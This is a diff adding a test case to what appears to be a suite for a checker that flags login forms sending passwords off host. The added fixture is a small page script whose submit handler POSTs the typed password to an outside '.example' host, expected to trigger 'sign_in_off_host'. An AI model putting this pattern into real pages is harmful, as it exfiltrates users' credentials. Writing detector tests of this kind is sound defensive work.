@@ -245,6 +245,18 @@ root.querySelector('form').onsubmit = async (event) => {
     code: 'sign_in_off_host',
     posts: 0,
   },
+  'a page that sends the password to a host of that name': {
+    kind: app(
+      `
+root.innerHTML = ${JSON.stringify(FORM)};
+root.querySelector('form').onsubmit = (event) => {
+  event.preventDefault();
+  fetch('http://' + value('p') + '.example/', { method: 'POST', body: value('p') });
+};`,
+    ),
+    code: 'sign_in_off_host',
+    posts: 0,
+  },
   'a form whose password would be part of a URL': {
     kind: app(
       `root.innerHTML = '<form action=/find><input name=user><input name=pass type=password><button>Log in</button></form>';`,
